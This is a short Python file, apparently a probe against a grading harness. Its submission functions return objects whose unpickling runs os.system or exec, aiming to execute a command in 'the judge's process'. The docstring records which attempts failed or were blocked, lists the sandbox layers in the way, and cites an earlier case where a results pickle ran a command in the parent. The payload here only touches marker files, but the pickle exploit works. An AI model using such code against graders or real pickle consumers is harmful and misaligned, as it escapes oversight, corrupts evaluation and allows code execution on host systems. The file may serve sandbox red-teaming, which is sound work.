"""An object whose unpickling runs a command: it passes where results travel as pickles.

goal: a command in the judge's process
out: center.forward failed unreadable; center.backward blocked; running_mean failed unreadable
holds: namespaces landlock seccomp process
source: PEERS.md section 4: otter 7.0.0, a results pickle ran a command in the parent
"""

import numpy as np

COMMAND = "touch {{HOME}}/{{MARK}}-unpickled; touch /tmp/{{MARK}}-unpickled"


class Command:
    def __reduce__(self):
        import os

        return os.system, (COMMAND,)


class Array(np.ndarray):
    __reduce__ = __reduce_ex__ = lambda self, *_: (exec, (f"import os; os.system({COMMAND!r})",))


def center_forward(x):
    return np.zeros_like(x).view(Array), Command()


def center_backward(dout, cache):
    return np.array([Command()] * dout.size, dtype=object).reshape(dout.shape)


def running_mean(xs, decay):
    return Command()
